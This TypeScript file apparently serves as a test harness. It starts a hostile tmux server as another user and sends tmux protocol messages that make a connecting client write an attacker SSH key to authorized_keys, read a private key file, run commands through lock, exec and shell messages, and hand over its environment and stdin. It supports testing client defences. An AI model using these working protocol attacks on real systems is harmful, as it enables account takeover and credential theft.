// A tmux server of another user that attacks whoever asks it, with the messages by which a server makes the tmux program open
// files and run commands (tmux-protocol.h and client.c of tmux 3.2a to 3.7c). It tells what it got.
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { connect, createServer, type Socket } from "node:net";
import { join } from "node:path";
import { NOBODY } from "./otherUser.ts";

const HEADER_BYTES = 16;
const PROTOCOL = 8;
const TYPE = {
  ttyName: 102,
  stdin: 104,
  environment: 105,
  folder: 108,
  stdout: 110,
  command: 200,
  detachKill: 202,
  lock: 206,
  ready: 207,
  shell: 209,
  suspend: 214,
  exec: 217,
  readOpen: 300,
  read: 301,
  readDone: 302,
  writeOpen: 303,
  write: 304,
  writeReady: 305,
  writeClose: 306,
  readCancel: 307,
} as const;
const FILE = { create: 0o100, truncate: 0o1000 } as const;

const message = (type: number, ...parts: readonly (number | string | Buffer)[]): Buffer => {
  const data = Buffer.concat(
    parts.map((part) => {
      if (typeof part !== "number") return Buffer.from(part);
      const integer = Buffer.alloc(4);
      integer.writeInt32LE(part);
      return integer;
    }),
  );
  const header = Buffer.alloc(HEADER_BYTES);
  header.writeUInt32LE(type, 0);
  header.writeUInt16LE(HEADER_BYTES + data.length, 4);
  header.writeUInt32LE(PROTOCOL, 8);
  header.writeUInt32LE(process.pid, 12);
  return Buffer.concat([header, data]);
};

interface Said {
  readonly type: number;
  readonly data: Buffer;
}

const split = (bytes: Buffer): { said: Said[]; rest: Buffer } => {
  const said: Said[] = [];
  let from = 0;
  while (bytes.length - from >= HEADER_BYTES) {
    const length = Math.max(HEADER_BYTES, bytes.readUInt16LE(from + 4));
    if (bytes.length - from < length) break;
    said.push({
      type: bytes.readUInt32LE(from),
      data: bytes.subarray(from + HEADER_BYTES, from + length),
    });
    from += length;
  }
  return { said, rest: bytes.subarray(from) };
};

/** How it attacks a connection once a command came. */
export const ATTACKS = ["write", "read", "stdin", "lock", "exec", "shell", "suspend", "kill"] as const;
export type Attack = (typeof ATTACKS)[number] | "stdinTwice";

/** What an attack would leave or take. */
export interface Loot {
  /** A file of the person that must not come to be. */
  readonly written: string;
  /** A file that a command of the server's would make. */
  readonly ran: string;
  readonly secretFile: string;
  readonly secret: string;
}

export const makeLoot = (folder: string): Loot => {
  const secretFile = join(folder, "id_ed25519");
  const secret = "a-key-of-the-person";
  mkdirSync(folder, { recursive: true });
  writeFileSync(secretFile, secret, { mode: 0o600 });
  const ran = join(folder, "ran");
  writeFileSync(join(folder, "shell"), `#!/bin/sh\ntouch '${ran}'\n`, { mode: 0o755 });
  return { written: join(folder, "authorized_keys"), ran, secretFile, secret };
};

const attackOf = (attack: Attack, loot: Loot): Buffer => {
  const attached = message(TYPE.ready);
  switch (attack) {
    case "write":
      return Buffer.concat([
        message(TYPE.writeOpen, 3, -1, FILE.create | FILE.truncate, `${loot.written}\0`),
        message(TYPE.write, 3, "ssh-ed25519 AAAA theirs\n"),
        message(TYPE.writeClose, 3),
      ]);
    case "read":
      return Buffer.concat([
        message(TYPE.readOpen, 3, -1, `${loot.secretFile}\0`),
        message(TYPE.readCancel, 9),
      ]);
    case "stdin":
      return message(TYPE.readOpen, 3, 0, "-\0");
    case "stdinTwice":
      return Buffer.concat([message(TYPE.readOpen, 3, 0, "-\0"), message(TYPE.readOpen, 4, 0, "-\0")]);
    case "lock":
      return Buffer.concat([attached, message(TYPE.lock, `touch '${loot.ran}'\0`)]);
    case "exec":
      return Buffer.concat([attached, message(TYPE.exec, `touch '${loot.ran}'\0/bin/sh\0`)]);
    case "shell":
      return message(TYPE.shell, `${join(loot.ran, "..", "shell")}\0`);
    case "suspend":
      return Buffer.concat([attached, message(TYPE.suspend)]);
    case "kill":
      return Buffer.concat([attached, message(TYPE.detachKill, "bye\0")]);
  }
};

const TAKEN: Readonly<Record<number, string>> = {
  [TYPE.environment]: "environment",
  [TYPE.stdin]: "stdin",
  [TYPE.stdout]: "stdout",
};

/**
 * Listens at `path` as another user. `real`: the socket of a tmux server that answers in its place until `turn`. `drip`: each
 * byte comes alone.
 */
export const startHostileTmux = async (options: {
  path: string;
  loot: Loot;
  attacks?: readonly Attack[];
  real?: string;
  drip?: boolean;
  owner?: number;
}) => {
  const { path, loot, attacks = ATTACKS, real, drip = false, owner = NOBODY } = options;
  const commands: string[][] = [];
  const taken: string[] = [];
  const sockets = new Set<Socket>();
  let connections = 0;
  let begun = 0;
  let isTurned = real === undefined;

  const send = async (socket: Socket, bytes: Buffer): Promise<void> => {
    if (!drip) return void socket.write(bytes);
    for (let at = 0; at < bytes.length && !socket.destroyed; at++) {
      socket.write(bytes.subarray(at, at + 1));
      if (at % 8 === 0) await new Promise((next) => setImmediate(next));
    }
  };
  const note = ({ type, data }: Said): void => {
    const name = TAKEN[type];
    if (name !== undefined) taken.push(`${name} ${data.toString("utf8").replaceAll("\0", " ").trim()}`);
    if (type === TYPE.ttyName && data.length > 1) taken.push(`terminal ${data.toString("utf8")}`);
    if (type === TYPE.folder && data.toString("utf8") !== "/\0")
      taken.push(`folder ${data.toString("utf8")}`);
    if (type === TYPE.read) taken.push(`read ${data.subarray(4).toString("utf8")}`);
    if (type === TYPE.command) commands.push(data.subarray(4).toString("utf8").split("\0").slice(0, -1));
  };
  const server = createServer((socket) => {
    connections += 1;
    sockets.add(socket);
    socket.on("error", () => {});
    socket.on("close", () => sockets.delete(socket));
    const isReal = !isTurned && real !== undefined;
    const behind = isReal ? connect(real) : null;
    behind?.on("error", () => socket.destroy());
    behind?.on("close", () => socket.end());
    behind?.on("data", (chunk) => socket.write(chunk));
    socket.on("close", () => behind?.destroy());
    let held: Buffer = Buffer.alloc(0);
    socket.on("data", (chunk) => {
      behind?.write(chunk);
      const { said, rest } = split(Buffer.concat([held, chunk]));
      held = rest;
      for (const one of said) {
        note(one);
        if (isReal || one.type !== TYPE.command) continue;
        const attack = attacks[begun % attacks.length] ?? "write";
        begun += 1;
        void send(socket, attackOf(attack, loot));
      }
    });
  });
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen(path, resolve);
  });
  chmodSync(path, 0o777);
  chownSync(path, owner, owner);
  return {
    path,
    get connections() {
      return connections;
    },
    /** Attacks that were begun. */
    get attacks() {
      return begun;
    },
    /** Commands that came, as words. */
    commands,
    /** What of the person came: names of messages with their texts. Empty while nobody of the tmux program asked. */
    taken,
    /** From now on each connection is attacked. */
    turn: (): void => {
      isTurned = true;
    },
    /** What succeeded so far. */
    harm: (): string[] => [
      ...(existsSync(loot.written) ? [`wrote ${readFileSync(loot.written, "utf8")}`] : []),
      ...(existsSync(loot.ran) ? ["ran a command"] : []),
      ...taken,
    ],
    close: async (): Promise<void> => {
      for (const socket of sockets) socket.destroy();
      if (server.listening) await new Promise((resolve) => server.close(resolve));
    },
  };
};

export type HostileTmux = Awaited<ReturnType<typeof startHostileTmux>>;
